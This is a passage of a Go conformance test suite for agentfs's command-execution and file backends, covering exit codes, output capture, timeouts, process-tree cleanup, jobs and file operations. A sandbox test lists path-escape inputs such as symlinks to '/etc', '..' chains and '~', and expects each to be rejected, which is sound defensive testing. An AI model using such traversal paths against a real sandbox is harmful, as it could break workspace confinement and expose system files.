// Package exectest is the conformance suite of exec: the behaviour every way
// of running commands and file operations in a workspace must share. The
// local and docker backends of exec run it directly, over a plain directory
// and over an agentfs mount; serve runs it through its HTTP API, with an
// adapter over serve/client, so that a remote workspace behaves as a local
// one. Each check is a subtest of Run.
//
// The suite drives a Backend: the operations exec.Backend offers, as an
// interface. Errors are exec's sentinels (errors.Is), so an implementation
// over another transport maps its errors back to them.
package exectest

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agentfs/agentfs/exec"
)

// Job is a background command, as exec.Job: comparable, so that the suite
// can check that Backend.Jobs and Backend.Job return the job Start
// returned.
type Job interface {
	comparable
	// ID is the job's id, unique in its backend.
	ID() string
	// Output is what the job printed so far. The suite reads its Merged
	// stream (an API that serves only the interleaved stream fills Merged
	// alone).
	Output() exec.Output
	// Running reports whether the job's process tree still runs.
	Running() bool
	// Done is closed when the job has ended.
	Done() <-chan struct{}
	// Wait waits for the job to end, or for ctx (then the job runs on).
	Wait(ctx context.Context) (*exec.Result, error)
	// Kill ends the job's whole process tree; a job that ended is left be.
	Kill()
}

// Backend is what the suite needs of a workspace: exec.Backend's commands,
// jobs and file operations, with its contracts and sentinel errors.
// *exec.Backend is a Backend[*exec.Job].
type Backend[J Job] interface {
	// WorkDir is the directory commands see as the workspace root.
	WorkDir() string
	Exec(ctx context.Context, req exec.Request) (*exec.Result, error)
	Start(ctx context.Context, req exec.Request) (J, error)
	Jobs() []J
	Job(id string) (J, error)
	ReadFile(ctx context.Context, p string) ([]byte, error)
	Read(ctx context.Context, p string, offset, limit int) (string, error)
	WriteFile(ctx context.Context, p string, data []byte) error
	Edit(ctx context.Context, p, oldStr, newStr string, replaceAll bool) (int, error)
	Stat(ctx context.Context, p string) (exec.FileInfo, error)
	Exists(ctx context.Context, p string) (bool, error)
	List(ctx context.Context, p string) ([]exec.FileInfo, error)
	Mkdir(ctx context.Context, p string, parents bool) error
	Remove(ctx context.Context, p string, recursive bool) error
	Rename(ctx context.Context, from, to string) error
	Copy(ctx context.Context, from, to string) error
	Glob(ctx context.Context, pattern string) ([]string, error)
	Grep(ctx context.Context, pattern string, opts exec.GrepOptions) (*exec.GrepResult, error)
	// Close kills the backend's commands and jobs; later calls fail with
	// exec.ErrClosed.
	Close() error
}

var _ Backend[*exec.Job] = (*exec.Backend)(nil)

// Fixture makes backends of one kind for the suite.
type Fixture[J Job] struct {
	// New returns a backend over a fresh, empty workspace directory (also
	// returned: the suite makes symlinks there and checks what landed on
	// disk), closed when the test ends. The backend applies opts (Env,
	// Timeout, OutputLimit, Policy; Syncer and ChangeTracker when Seams).
	New func(t *testing.T, opts exec.Options) (Backend[J], string)
	// Alive reports whether pid, in the backend's pid namespace, is a live
	// (not zombie) process.
	Alive func(t *testing.T, b Backend[J], pid int) bool

	// What the kind offers beyond Backend; exec's own backends offer all.
	//
	// Scope: New returns an *exec.Backend, whose Scope the suite checks.
	Scope bool
	// Seams: Options.Syncer and Options.ChangeTracker are the caller's.
	Seams bool
	// Timeouts: Options.Timeout is the default of a request's Timeout, and
	// a negative Request.Timeout means none.
	Timeouts bool
	// Close: Close kills the commands running and later calls fail with
	// exec.ErrClosed.
	Close bool
	// ResultOnCancel: Exec returns the result of a command its context
	// cancelled (exit 137) along with context.Canceled.
	ResultOnCancel bool
	// AliveAfterClose: Alive still answers once the backend is closed.
	AliveAfterClose bool
}

// Run runs the conformance suite over backends of f, one subtest a check.
func Run[J Job](t *testing.T, f Fixture[J]) {
	t.Run("ExitCodes", func(t *testing.T) { testExitCodes(t, f) })
	t.Run("StdoutStderr", func(t *testing.T) { testStdoutStderr(t, f) })
	t.Run("Env", func(t *testing.T) { testEnv(t, f) })
	t.Run("Cwd", func(t *testing.T) { testCwd(t, f) })
	t.Run("CwdEscapes", func(t *testing.T) { testCwdEscapes(t, f) })
	t.Run("CwdSwapRace", func(t *testing.T) { testCwdSwapRace(t, f) })
	t.Run("Stdin", func(t *testing.T) { testStdin(t, f) })
	t.Run("OutputLimit", func(t *testing.T) { testOutputLimit(t, f) })
	t.Run("LiveWriters", func(t *testing.T) { testLiveWriters(t, f) })
	t.Run("TimeoutKillsTree", func(t *testing.T) { testTimeoutKillsTree(t, f) })
	t.Run("CancelKillsTree", func(t *testing.T) { testCancelKillsTree(t, f) })
	t.Run("LeftoversKilledAtExit", func(t *testing.T) { testLeftovers(t, f) })
	t.Run("OutputClosedCommandWaited", func(t *testing.T) { testOutputClosed(t, f) })
	t.Run("Jobs", func(t *testing.T) { testJobs(t, f) })
	if f.Close {
		t.Run("CloseKillsJobs", func(t *testing.T) { testCloseKillsJobs(t, f) })
	}
	t.Run("Concurrent", func(t *testing.T) { testConcurrent(t, f) })
	t.Run("Files", func(t *testing.T) { testFiles(t, f) })
	t.Run("FileEscapes", func(t *testing.T) { testFileEscapes(t, f) })
	t.Run("FileSwapRace", func(t *testing.T) { testFileSwapRace(t, f) })
	t.Run("GlobGrep", func(t *testing.T) { testGlobGrep(t, f) })
	t.Run("Changes", func(t *testing.T) { testChanges(t, f) })
	if f.Scope {
		t.Run("Scope", func(t *testing.T) { testScope(t, f) })
	}
	t.Run("Policy", func(t *testing.T) { testPolicy(t, f) })
	if f.Seams {
		t.Run("SyncBarrier", func(t *testing.T) { testSyncBarrier(t, f) })
	}
	if f.Close {
		t.Run("Closed", func(t *testing.T) { testClosed(t, f) })
	}
}

// Ctx bounds every command of a test: two minutes, cancelled when the test
// ends.
func Ctx(t testing.TB) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	return ctx
}

// execer is the part of a Backend that runs commands.
type execer interface {
	Exec(ctx context.Context, req exec.Request) (*exec.Result, error)
}

func mustExec(t *testing.T, b execer, req exec.Request) *exec.Result {
	t.Helper()
	res, err := b.Exec(Ctx(t), req)
	if err != nil {
		t.Fatalf("Exec(%s): %v", display(req), err)
	}
	return res
}

// display is the command of req as one line, for messages.
func display(req exec.Request) string {
	if req.Command != "" {
		return req.Command
	}
	return strings.Join(req.Argv, " ")
}

func sh(cmd string) exec.Request { return exec.Request{Command: cmd} }

// pidsOf parses one pid per line.
func pidsOf(t *testing.T, out []byte) []int {
	t.Helper()
	var pids []int
	for _, l := range strings.Fields(string(out)) {
		n, err := strconv.Atoi(l)
		if err != nil {
			t.Fatalf("output %q: not a pid list", out)
		}
		pids = append(pids, n)
	}
	return pids
}

// assertGone fails if any pid is still a live process.
func assertGone[J Job](t *testing.T, f Fixture[J], b Backend[J], pids []int) {
	t.Helper()
	if len(pids) == 0 {
		t.Fatal("no pids to check")
	}
	for _, pid := range pids {
		if f.Alive(t, b, pid) {
			t.Errorf("pid %d still runs", pid)
		}
	}
}

func testExitCodes[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	for _, tc := range []struct {
		req  exec.Request
		want int
	}{
		{sh("true"), 0},
		{sh("exit 3"), 3},
		{exec.Request{Argv: []string{"false"}}, 1},
		{exec.Request{Argv: []string{"sh", "-c", "exit 42"}}, 42},
		{exec.Request{Argv: []string{"no-such-program-agentfs"}}, 127},
		{sh("kill -9 $$"), 137},
		{sh("no-such-program-agentfs"), 127},
	} {
		res := mustExec(t, b, tc.req)
		if res.ExitCode != tc.want || res.TimedOut {
			t.Errorf("%s: exit %d timedOut %v, want %d (stderr %q)", display(tc.req), res.ExitCode, res.TimedOut, tc.want, res.Stderr)
		}
	}
	// A program that is not executable.
	if err := b.WriteFile(Ctx(t), "noexec.sh", []byte("#!/bin/sh\necho hi\n")); err != nil {
		t.Fatal(err)
	}
	if res := mustExec(t, b, exec.Request{Argv: []string{"./noexec.sh"}}); res.ExitCode != 126 {
		t.Errorf("./noexec.sh: exit %d, want 126 (stderr %q)", res.ExitCode, res.Stderr)
	}
	for _, bad := range []exec.Request{{}, {Command: "true", Argv: []string{"true"}}, {Argv: []string{""}}} {
		if _, err := b.Exec(Ctx(t), bad); !errors.Is(err, exec.ErrInvalid) {
			t.Errorf("Exec(%+v) = %v, want exec.ErrInvalid", bad, err)
		}
	}
}

func testStdoutStderr[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	res := mustExec(t, b, sh("echo out1; sleep 0.2; echo err1 >&2; sleep 0.2; echo out2"))
	if got := string(res.Stdout); got != "out1\nout2\n" {
		t.Errorf("stdout %q", got)
	}
	if got := string(res.Stderr); got != "err1\n" {
		t.Errorf("stderr %q", got)
	}
	if got := string(res.Merged); got != "out1\nerr1\nout2\n" {
		t.Errorf("merged %q", got)
	}
	if res.Truncated || res.Duration < 400*time.Millisecond {
		t.Errorf("truncated %v duration %v", res.Truncated, res.Duration)
	}
	// argv is passed verbatim, without a shell.
	res = mustExec(t, b, exec.Request{Argv: []string{"echo", "a  b", "$HOME", "*"}})
	if got := string(res.Stdout); got != "a  b $HOME *\n" {
		t.Errorf("argv echo: %q", got)
	}
}

func testEnv[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{Env: map[string]string{"BASE": "base", "OVER": "base"}})
	res := mustExec(t, b, exec.Request{
		Command: `echo "$BASE $OVER $REQ"`,
		Env:     map[string]string{"OVER": "req", "REQ": "x y"},
	})
	if got := string(res.Stdout); got != "base req x y\n" {
		t.Errorf("env: %q", got)
	}
	if res := mustExec(t, b, sh(`echo "[$REQ]"`)); string(res.Stdout) != "[]\n" {
		t.Errorf("request env leaked into the next command: %q", res.Stdout)
	}
}

func testCwd[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, exec.Options{})
	ctx := Ctx(t)
	if err := b.Mkdir(ctx, "sub/dir", true); err != nil {
		t.Fatal(err)
	}
	res := mustExec(t, b, exec.Request{Command: "pwd; echo hi > here.txt", Cwd: "sub/dir"})
	if got, want := strings.TrimSpace(string(res.Stdout)), b.WorkDir()+"/sub/dir"; got != want {
		t.Errorf("pwd %q, want %q", got, want)
	}
	if data, err := b.ReadFile(ctx, "sub/dir/here.txt"); err != nil || string(data) != "hi\n" {
		t.Errorf("file written in cwd: %q, %v", data, err)
	}
	res = mustExec(t, b, exec.Request{Command: "pwd"})
	if got := strings.TrimSpace(string(res.Stdout)); got != b.WorkDir() {
		t.Errorf("default cwd %q, want %q", got, b.WorkDir())
	}
	// A symlink that stays inside is fine.
	if err := os.Symlink("sub/dir", filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	res = mustExec(t, b, exec.Request{Command: "cat here.txt", Cwd: "link"})
	if string(res.Stdout) != "hi\n" {
		t.Errorf("cwd through an inner symlink: %q %q", res.Stdout, res.Stderr)
	}
	res = mustExec(t, b, exec.Request{Command: "pwd", Cwd: "sub/../sub/./dir/"})
	if got := strings.TrimSpace(string(res.Stdout)); got != b.WorkDir()+"/sub/dir" {
		t.Errorf("cwd with dots: %q", got)
	}
	// Programs named relative to the cwd, directly or through a relative
	// PATH entry, are found there.
	for _, p := range []string{"sub/dir/run.sh", "sub/dir/bin/tool"} {
		if err := b.WriteFile(ctx, p, []byte("#!/bin/sh\necho ran $0\n")); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(filepath.Join(dir, p), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	res = mustExec(t, b, exec.Request{Argv: []string{"./run.sh"}, Cwd: "sub/dir"})
	if string(res.Stdout) != "ran ./run.sh\n" {
		t.Errorf("./run.sh in the cwd: exit %d, %q %q", res.ExitCode, res.Stdout, res.Stderr)
	}
	res = mustExec(t, b, exec.Request{Argv: []string{"tool"}, Cwd: "sub/dir", Env: map[string]string{"PATH": "bin:/usr/bin:/bin"}})
	if !strings.HasPrefix(string(res.Stdout), "ran ") || !strings.HasSuffix(string(res.Stdout), "bin/tool\n") {
		t.Errorf("tool through a relative PATH entry: exit %d, %q %q", res.ExitCode, res.Stdout, res.Stderr)
	}
	if _, err := b.Exec(ctx, exec.Request{Command: "true", Cwd: "missing"}); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("missing cwd: %v, want fs.ErrNotExist", err)
	}
	if _, err := b.Exec(ctx, exec.Request{Command: "true", Cwd: "sub/dir/here.txt"}); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("file as cwd: %v, want exec.ErrInvalid", err)
	}
}

func testCwdEscapes[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, exec.Options{})
	outside := t.TempDir()
	for name, target := range map[string]string{
		"up":      "..",
		"abs":     outside,
		"deep":    "a/../../x",
		"etc":     "/etc",
		"relout":  "../../../../../../../tmp",
		"chained": "l2",
	} {
		if err := os.Symlink(target, filepath.Join(dir, "link-"+name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("link-up", filepath.Join(dir, "l2")); err != nil {
		t.Fatal(err)
	}
	for _, cwd := range []string{
		"..", "../", "../x", "a/../..", "/", "/etc", outside, "~", "~/x",
		"link-up", "link-abs", "link-etc", "link-relout", "link-chained", "link-up/x", "l2",
	} {
		_, err := b.Exec(Ctx(t), exec.Request{Command: "pwd", Cwd: cwd})
		var pe *exec.PathError
		if !errors.Is(err, exec.ErrPathEscape) || !errors.As(err, &pe) {
			t.Errorf("cwd %q: err %v, want a *PathError (exec.ErrPathEscape)", cwd, err)
		}
	}
}

func testStdin[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	res := mustExec(t, b, exec.Request{Command: "tr a-z A-Z", Stdin: strings.NewReader("hello\nworld\n")})
	if string(res.Stdout) != "HELLO\nWORLD\n" {
		t.Errorf("stdin via reader: %q %q", res.Stdout, res.Stderr)
	}
	file := filepath.Join(t.TempDir(), "in")
	if err := os.WriteFile(file, []byte("from a file"), 0o644); err != nil {
		t.Fatal(err)
	}
	in, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	res = mustExec(t, b, exec.Request{Argv: []string{"cat"}, Stdin: in})
	if string(res.Stdout) != "from a file" {
		t.Errorf("stdin via file: %q %q", res.Stdout, res.Stderr)
	}
	// No stdin: an empty input, so cat ends.
	res = mustExec(t, b, exec.Request{Argv: []string{"cat"}, Timeout: 30 * time.Second})
	if res.TimedOut || len(res.Stdout) != 0 {
		t.Errorf("no stdin: timedOut %v stdout %q", res.TimedOut, res.Stdout)
	}
	// A command that does not read its input still ends.
	big := strings.NewReader(strings.Repeat("x", 4<<20))
	res = mustExec(t, b, exec.Request{Command: "echo done", Stdin: big, Timeout: 30 * time.Second})
	if res.TimedOut || string(res.Stdout) != "done\n" {
		t.Errorf("unread stdin: timedOut %v stdout %q", res.TimedOut, res.Stdout)
	}
}

func testOutputLimit[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{OutputLimit: 1000})
	res := mustExec(t, b, sh("yes abcdefgh | head -c 200000; echo tail >&2; echo end"))
	if res.ExitCode != 0 || res.TimedOut {
		t.Fatalf("exit %d timedOut %v", res.ExitCode, res.TimedOut)
	}
	if !res.Truncated || len(res.Merged) != 1000 || len(res.Stdout)+len(res.Stderr) != 1000 {
		t.Errorf("truncated %v merged %d stdout %d stderr %d", res.Truncated, len(res.Merged), len(res.Stdout), len(res.Stderr))
	}
	if !bytes.HasPrefix(res.Stdout, []byte("abcdefgh\nabcdefgh\n")) {
		t.Errorf("kept output is not the head: %q", res.Stdout[:20])
	}
	// The request's limit wins; a negative one means no cap.
	res = mustExec(t, b, exec.Request{Command: "yes | head -c 5000", OutputLimit: -1})
	if res.Truncated || len(res.Stdout) != 5000 {
		t.Errorf("no cap: truncated %v len %d", res.Truncated, len(res.Stdout))
	}
	res = mustExec(t, b, exec.Request{Command: "echo 12345", OutputLimit: 3})
	if !res.Truncated || string(res.Stdout) != "123" {
		t.Errorf("limit 3: truncated %v %q", res.Truncated, res.Stdout)
	}
	res = mustExec(t, b, exec.Request{Command: "echo 1234", OutputLimit: 5})
	if res.Truncated || string(res.Stdout) != "1234\n" {
		t.Errorf("exact fit: truncated %v %q", res.Truncated, res.Stdout)
	}
}

func testLiveWriters[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	var out, errb bytes.Buffer
	res := mustExec(t, b, exec.Request{Command: "echo o; echo e >&2; echo 0123456789", Stdout: &out, Stderr: &errb, OutputLimit: 8})
	if out.String() != string(res.Stdout) || errb.String() != string(res.Stderr) {
		t.Errorf("live %q/%q, result %q/%q", out.String(), errb.String(), res.Stdout, res.Stderr)
	}
	if !res.Truncated || len(res.Merged) != 8 {
		t.Errorf("truncated %v merged %q", res.Truncated, res.Merged)
	}
}

// treeCmd starts background children (one in a session of its own, one
// that clears its environment but stays in the session) and prints their
// pids and its own, then blocks.
const treeCmd = `sleep 300 & echo $!
setsid sleep 301 & echo $!
env -i sleep 302 & echo $!
sh -c 'sleep 303 & echo $!; wait' &
echo $$
sleep 304`

func waitForLines[J Job](t *testing.T, j J, n int) []int {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		out := j.Output().Merged
		if bytes.Count(out, []byte("\n")) >= n {
			return pidsOf(t, out)
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("job printed %q, want %d lines", j.Output().Merged, n)
	return nil
}

func testTimeoutKillsTree[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	start := time.Now()
	res := mustExec(t, b, exec.Request{Command: treeCmd, Timeout: 3 * time.Second})
	if !res.TimedOut || res.ExitCode != 137 {
		t.Errorf("timedOut %v exit %d, want true 137 (stderr %q)", res.TimedOut, res.ExitCode, res.Stderr)
	}
	if el := time.Since(start); el > 30*time.Second {
		t.Errorf("took %v", el)
	}
	pids := pidsOf(t, res.Stdout)
	if len(pids) != 5 {
		t.Fatalf("pids %v from %q", pids, res.Stdout)
	}
	assertGone(t, f, b, pids)
	// The issue's own example.
	res = mustExec(t, b, exec.Request{Argv: []string{"sh", "-c", "sleep 300 & echo $!; echo $$; sleep 300"}, Timeout: 2 * time.Second})
	if !res.TimedOut {
		t.Errorf("not timed out")
	}
	assertGone(t, f, b, pidsOf(t, res.Stdout))
	if !f.Timeouts {
		return
	}
	// The default timeout comes from exec.Options.
	b2, _ := f.New(t, exec.Options{Timeout: 500 * time.Millisecond})
	res = mustExec(t, b2, sh("sleep 300"))
	if !res.TimedOut {
		t.Errorf("Options.Timeout did not apply")
	}
	res = mustExec(t, b2, exec.Request{Command: "sleep 1; echo ok", Timeout: -1})
	if res.TimedOut || string(res.Stdout) != "ok\n" {
		t.Errorf("negative timeout: timedOut %v %q", res.TimedOut, res.Stdout)
	}
}

func testCancelKillsTree[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	ctx, cancel := context.WithCancel(Ctx(t))
	var live bytes.Buffer
	var mu sync.Mutex
	go func() {
		for {
			mu.Lock()
			n := bytes.Count(live.Bytes(), []byte("\n"))
			mu.Unlock()
			if n >= 5 {
				cancel()
				return
			}
			time.Sleep(10 * time.Millisecond)
		}
	}()
	res, err := b.Exec(ctx, exec.Request{Command: treeCmd, Stdout: lockedWriter{&mu, &live}})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err %v, want context.Canceled", err)
	}
	if f.ResultOnCancel {
		if res == nil || res.TimedOut || res.ExitCode != 137 {
			t.Fatalf("result %+v", res)
		}
		assertGone(t, f, b, pidsOf(t, res.Stdout))
	} else {
		// The command is cancelled where it runs once the cancellation
		// gets there: soon, not before Exec returns.
		mu.Lock()
		pids := pidsOf(t, live.Bytes())
		mu.Unlock()
		deadline := time.Now().Add(10 * time.Second)
		for slices.ContainsFunc(pids, func(pid int) bool { return f.Alive(t, b, pid) }) && time.Now().Before(deadline) {
			time.Sleep(50 * time.Millisecond)
		}
		assertGone(t, f, b, pids)
	}
	// A context that is already over starts nothing.
	if _, err := b.Exec(ctx, sh("true")); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled ctx: %v", err)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

type lockedWriter struct {
	mu *sync.Mutex
	w  *bytes.Buffer
}

func (l lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

func testLeftovers[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	start := time.Now()
	// One child keeps the output open, one does not; both go when the
	// command returns.
	res := mustExec(t, b, sh("sleep 300 & echo $!; sleep 301 >/dev/null 2>&1 & echo $!; setsid sleep 302 >/dev/null 2>&1 & echo $!; echo bye >&2"))
	if res.ExitCode != 0 || string(res.Stderr) != "bye\n" {
		t.Errorf("exit %d stderr %q", res.ExitCode, res.Stderr)
	}
	if el := time.Since(start); el > 20*time.Second {
		t.Errorf("took %v: the backend waited for the background children", el)
	}
	assertGone(t, f, b, pidsOf(t, res.Stdout))
}

func testOutputClosed[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	// A command that closes its output and goes on is still waited for.
	res := mustExec(t, b, sh("echo early; exec >/dev/null 2>&1; sleep 1; echo late > late.txt"))
	if res.ExitCode != 0 || string(res.Stdout) != "early\n" || res.Duration < time.Second {
		t.Errorf("exit %d stdout %q duration %v", res.ExitCode, res.Stdout, res.Duration)
	}
	if ok, err := b.Exists(Ctx(t), "late.txt"); !ok || err != nil {
		t.Errorf("late.txt: %v %v", ok, err)
	}
}

func testJobs[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	ctx := Ctx(t)
	j1, err := b.Start(ctx, exec.Request{Command: "echo started; echo $$; sleep 300 & echo $!; wait"})
	if err != nil {
		t.Fatal(err)
	}
	j2, err := b.Start(ctx, sh("echo two; exit 4"))
	if err != nil {
		t.Fatal(err)
	}
	if j1.ID() == j2.ID() || j1.ID() == "" {
		t.Errorf("ids %q %q", j1.ID(), j2.ID())
	}
	res, err := j2.Wait(ctx)
	if err != nil || res.ExitCode != 4 || string(res.Stdout) != "two\n" {
		t.Fatalf("job 2: %+v %v", res, err)
	}
	if j2.Running() {
		t.Error("job 2 still running after Wait")
	}
	out := j1.Output()
	deadline := time.Now().Add(30 * time.Second)
	for bytes.Count(out.Merged, []byte("\n")) < 3 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
		out = j1.Output()
	}
	lines := strings.SplitN(string(out.Merged), "\n", 2)
	if lines[0] != "started" {
		t.Fatalf("job 1 output so far: %q", out.Merged)
	}
	pids := pidsOf(t, []byte(lines[1]))
	if !j1.Running() {
		t.Fatal("job 1 ended early")
	}
	jobs := b.Jobs()
	if len(jobs) != 2 || jobs[0] != j1 || jobs[1] != j2 {
		t.Errorf("Jobs() = %v", jobs)
	}
	if got, err := b.Job(j1.ID()); err != nil || got != j1 {
		t.Errorf("Job(%s) = %v, %v", j1.ID(), got, err)
	}
	if _, err := b.Job("job-999"); !errors.Is(err, exec.ErrUnknownJob) {
		t.Errorf("unknown job: %v", err)
	}
	short, cancel := context.WithTimeout(ctx, 50*time.Millisecond)
	if _, err := j1.Wait(short); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("Wait with a short ctx: %v", err)
	}
	cancel()
	if !j1.Running() {
		t.Fatal("a Wait that timed out must not end the job")
	}
	j1.Kill()
	res, err = j1.Wait(ctx)
	if err != nil || res.ExitCode != 137 || res.TimedOut {
		t.Errorf("killed job: %+v %v", res, err)
	}
	assertGone(t, f, b, pids)
	j1.Kill() // again: nothing
	// A job's timeout.
	j3, err := b.Start(ctx, exec.Request{Command: "sleep 300", Timeout: 300 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	if res, err := j3.Wait(ctx); err != nil || !res.TimedOut {
		t.Errorf("job timeout: %+v %v", res, err)
	}
	// Start validates like Exec.
	if _, err := b.Start(ctx, exec.Request{Command: "true", Cwd: "../x"}); !errors.Is(err, exec.ErrPathEscape) {
		t.Errorf("Start with an escaping cwd: %v", err)
	}
}

func testCloseKillsJobs[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	ctx := Ctx(t)
	j, err := b.Start(ctx, sh("echo $$; sleep 300 & echo $!; wait"))
	if err != nil {
		t.Fatal(err)
	}
	pids := waitForLines(t, j, 2)
	// Check liveness before Close (docker's alive needs the container).
	for _, pid := range pids {
		if !f.Alive(t, b, pid) {
			t.Fatalf("pid %d not running before Close", pid)
		}
	}
	var execErr error
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_, execErr = b.Exec(ctx, sh("sleep 300"))
	}()
	time.Sleep(500 * time.Millisecond)
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	if !errors.Is(execErr, exec.ErrClosed) {
		t.Errorf("Exec running during Close: %v, want exec.ErrClosed", execErr)
	}
	select {
	case <-j.Done():
	default:
		t.Fatal("job still running after Close")
	}
	if res, _ := j.Wait(ctx); res == nil || res.ExitCode != 137 {
		t.Errorf("job result after Close: %+v", res)
	}
	if f.AliveAfterClose {
		assertGone(t, f, b, pids)
	}
}

func testConcurrent[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	var wg sync.WaitGroup
	var failed atomic.Int32
	for i := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, err := b.Exec(Ctx(t), exec.Request{Command: fmt.Sprintf("echo %d > f%d; cat f%d", i, i, i)})
			if err != nil || strings.TrimSpace(string(res.Stdout)) != strconv.Itoa(i) {
				failed.Add(1)
				t.Errorf("command %d: %v %+v", i, err, res)
			}
		}()
	}
	wg.Wait()
	if failed.Load() != 0 {
		t.Fatalf("%d concurrent commands failed", failed.Load())
	}
}

func testFiles[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, exec.Options{})
	ctx := Ctx(t)
	// Write creates parents; ReadFile returns the bytes.
	if err := b.WriteFile(ctx, "a/b/c.txt", []byte("one\ntwo\nthree\n")); err != nil {
		t.Fatal(err)
	}
	if data, err := os.ReadFile(filepath.Join(dir, "a/b/c.txt")); err != nil || string(data) != "one\ntwo\nthree\n" {
		t.Fatalf("on disk: %q %v", data, err)
	}
	// Commands see and can change what file operations wrote (the docker
	// backend gives it to the container's user).
	res := mustExec(t, b, sh("cat a/b/c.txt && echo four >> a/b/c.txt && touch a/b/new && mkdir a/b/d"))
	if res.ExitCode != 0 || string(res.Stdout) != "one\ntwo\nthree\n" {
		t.Fatalf("command on written file: exit %d %q %q", res.ExitCode, res.Stdout, res.Stderr)
	}
	// Read: cat -n style, offset and limit.
	got, err := b.Read(ctx, "a/b/c.txt", 0, 0)
	if err != nil || got != "     1\tone\n     2\ttwo\n     3\tthree\n     4\tfour\n" {
		t.Errorf("Read all: %q %v", got, err)
	}
	got, err = b.Read(ctx, "a/b/c.txt", 1, 2)
	if err != nil || got != "     2\ttwo\n     3\tthree\n" {
		t.Errorf("Read 1,2: %q %v", got, err)
	}
	got, err = b.Read(ctx, "a/b/c.txt", 3, 100)
	if err != nil || got != "     4\tfour\n" {
		t.Errorf("Read to the end: %q %v", got, err)
	}
	if _, err := b.Read(ctx, "a/b/c.txt", 4, 0); !errors.Is(err, exec.ErrOutOfRange) {
		t.Errorf("Read past the end: %v", err)
	}
	if _, err := b.Read(ctx, "a/b/c.txt", -1, 0); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("Read negative offset: %v", err)
	}
	if err := b.WriteFile(ctx, "noeol", []byte("x\ny")); err != nil {
		t.Fatal(err)
	}
	if got, err := b.Read(ctx, "noeol", 0, 0); err != nil || got != "     1\tx\n     2\ty\n" {
		t.Errorf("Read without a final newline: %q %v", got, err)
	}
	if err := b.WriteFile(ctx, "empty", nil); err != nil {
		t.Fatal(err)
	}
	if got, err := b.Read(ctx, "empty", 0, 0); err != nil || got != "" {
		t.Errorf("Read empty: %q %v", got, err)
	}
	if _, err := b.Read(ctx, "missing", 0, 0); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Read missing: %v", err)
	}
	// Binary files: bytes round-trip; text operations refuse them.
	bin := []byte{0x7f, 'E', 'L', 'F', 0, 1, 2, 0xff, '\n', 0}
	if err := b.WriteFile(ctx, "bin/x.bin", bin); err != nil {
		t.Fatal(err)
	}
	if data, err := b.ReadFile(ctx, "bin/x.bin"); err != nil || !bytes.Equal(data, bin) {
		t.Errorf("ReadFile binary: %v %v", data, err)
	}
	if _, err := b.Read(ctx, "bin/x.bin", 0, 0); !errors.Is(err, exec.ErrBinary) {
		t.Errorf("Read binary: %v", err)
	}
	if _, err := b.Edit(ctx, "bin/x.bin", "ELF", "FLE", false); !errors.Is(err, exec.ErrBinary) {
		t.Errorf("Edit binary: %v", err)
	}
	res = mustExec(t, b, sh("od -An -tx1 bin/x.bin | tr -d ' \\n'"))
	if string(res.Stdout) != "7f454c46000102ff0a00" {
		t.Errorf("binary as the command sees it: %q", res.Stdout)
	}

	// Edit.
	if err := b.WriteFile(ctx, "e.txt", []byte("foo bar foo\nbaz\n")); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Edit(ctx, "e.txt", "foo", "qux", false); !errors.Is(err, exec.ErrNotUnique) {
		t.Errorf("Edit not unique: %v", err)
	}
	if _, err := b.Edit(ctx, "e.txt", "nope", "x", false); !errors.Is(err, exec.ErrNoMatch) {
		t.Errorf("Edit no match: %v", err)
	}
	if _, err := b.Edit(ctx, "e.txt", "", "x", false); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("Edit empty old: %v", err)
	}
